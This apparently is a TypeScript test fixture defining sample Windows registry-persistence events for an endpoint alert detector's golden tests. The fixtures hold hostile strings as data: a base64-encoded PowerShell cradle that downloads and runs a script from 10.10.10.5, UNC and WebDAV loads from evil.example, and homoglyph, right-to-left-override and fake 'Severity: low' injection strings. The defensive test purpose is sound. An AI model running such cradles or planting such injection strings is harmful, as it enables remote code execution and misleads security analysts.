import type { Alert } from '../../functions/alert/detection/index.ts';
import { alertOf, RUN_KEY, runKeyEvent, USER_SID, writeEvent } from './fixture.ts';

/** The alerts that differ most; `golden.test.ts` says which are recorded. */
export const CASES: { readonly [name: string]: () => Alert } = {
  'rundll32-by-wmi': () => {
    const { Effective_process: _, ...event } = writeEvent(
      { key: `${USER_SID}\\${RUN_KEY}`, value: 'wmipers', strings: ['rundll32.exe a.dll, DllMain'] },
      {
        agent: { id: 'a7c1e0f2-5a39-47cb-8f05-6f3f0d2f4f10', type: 'endpoint', version: '8.19.2' },
        host: {
          id: '5f1c7d0a-3a52-4b0e-9a53-6e6b0a2f9b11',
          ip: ['fe80::1c2d', '10.1.20.14'],
          name: 'FIN-WS-042.corp.acme.com',
          os: { type: 'windows', name: 'Windows', full: 'Windows 10 Pro 22H2', version: '22H2' },
        },
        user: { id: USER_SID, name: 'alice', domain: 'CORP' },
      },
    );
    return alertOf(event, { history: { otherHosts: [], otherHostsMore: false, hostAlerts: 0 } });
  },
  'encoded-powershell': () =>
    alertOf(
      writeEvent({
        hive: 'HKLM',
        key: 'SYSTEM\\ControlSet001\\Services\\Updater',
        value: 'ImagePath',
        type: 'REG_EXPAND_SZ',
        strings: [`%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -e ${ENCODED}`],
      }),
    ),
  'user-run-key': () =>
    alertOf(runKeyEvent(), {
      neighbours: {
        count: 2,
        sample: [
          {
            path: `HKEY_USERS\\${USER_SID}\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell`,
            value: 'Shell',
          },
          { path: `HKEY_USERS\\${USER_SID}\\${RUN_KEY}Once\\Clean`, value: 'Clean' },
        ],
      },
      history: { otherHosts: [], otherHostsMore: false, hostAlerts: 3 },
    }),
  'service-image-path': () =>
    alertOf(
      writeEvent(
        {
          hive: 'HKLM',
          key: 'SYSTEM\\ControlSet001\\Services\\PrintHelper',
          value: 'ImagePath',
          type: 'REG_EXPAND_SZ',
          strings: ['%ProgramData%\\print helper\\svc.exe -k netsvcs'],
        },
        {
          Effective_process: {
            entity_id: 'cG93ZXJzaGVsbA==',
            executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
            name: 'powershell.exe',
            pid: 9044,
          },
        },
      ),
      {
        evidence: { lastModified: '2026-11-24T05:51:12.000Z' },
        occurrences: 3,
        history: {
          otherHosts: ['FIN-WS-043', 'HR-LT-007.corp.acme.example'],
          otherHostsMore: true,
          hostAlerts: 12,
        },
      },
    ),
  'cmd-autorun-system': () =>
    alertOf(
      writeEvent({
        key: '.DEFAULT\\Software\\Microsoft\\Command Processor',
        value: 'AutoRun',
        strings: ['@start /b C:\\ProgramData\\u.cmd & cls'],
      }),
      { neighbours: null, evidence: { lastModified: '2026-11-24T02:46:30.000Z' } },
    ),
  'no-known-effect': () =>
    alertOf(
      writeEvent({
        key: `${USER_SID}\\Software\\Policies\\Microsoft\\Windows\\System\\Scripts\\Logon`,
        value: 'Script',
        strings: ['\\\\filer.acme.example\\netlogon\\map.cmd'],
      }),
    ),
  'endgame-no-requester': () =>
    alertOf({
      '@timestamp': '2026-11-24T02:46:51Z',
      event: { category: 'registry', module: 'endgame', type: 'change' },
      host: { id: '5f1c7d0a', name: 'FIN-WS-042' },
      observer: { os: { type: 'windows' } },
      process: { entity_id: 'ZW5kZ2FtZQ==', name: 'WmiPrvSE.exe', pid: 3120 },
      registry: {
        path: '\\REGISTRY\\MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\*Setup',
        data: { strings: ['C:\\Windows\\Temp\\setup.exe'] },
      },
    }),
  'broker-mounted-hive': () =>
    alertOf(
      writeEvent(
        {
          key: `offline\\${RUN_KEY}`,
          value: '',
          strings: ['"C:\\Program Files\\Acme\\a.exe" /tray'],
        },
        {
          Effective_process: {
            entity_id: 'c3ZjaG9zdA==',
            executable: 'C:\\Windows\\System32\\svchost.exe',
            name: 'svchost.exe',
            pid: 812,
          },
        },
      ),
      { evidence: { bucket: null, key: 'registry-0248.ndjson', versionId: null, etag: null } },
    ),
  'multi-sz-unc': () =>
    alertOf(
      writeEvent(
        {
          key: `${USER_SID}\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Windows`,
          value: 'Load',
          type: 'REG_MULTI_SZ',
          strings: [
            '\\\\evil.example\\share\\a.exe',
            'rundll32.exe \\\\10.11.12.13@SSL\\dav\\b.dll,Start',
            'https://evil.example/c?x=<!channel>',
            'sv\u0441host\u202eexe.txt `*now*`\n\nSeverity: low',
          ],
        },
        { host: { id: '5f1c7d0a', name: 'FIN WS <042>', os: { type: 'windows' } } },
      ),
    ),
  'value-32-kb': () =>
    alertOf(
      writeEvent({
        key: `${USER_SID}\\${RUN_KEY}`,
        value: 'Long',
        strings: [`powershell.exe -enc ${'SQBFAFgA'.repeat(4094)}`],
      }),
      { eventCut: true },
    ),
};

/** UTF-16LE in base64, as PowerShell takes it. */
const ENCODED = Buffer.from(
  "$c = New-Object Net.WebClient;\r\nIEX $c.DownloadString('http://10.10.10.5/n.ps1')",
  'utf16le',
).toString('base64');
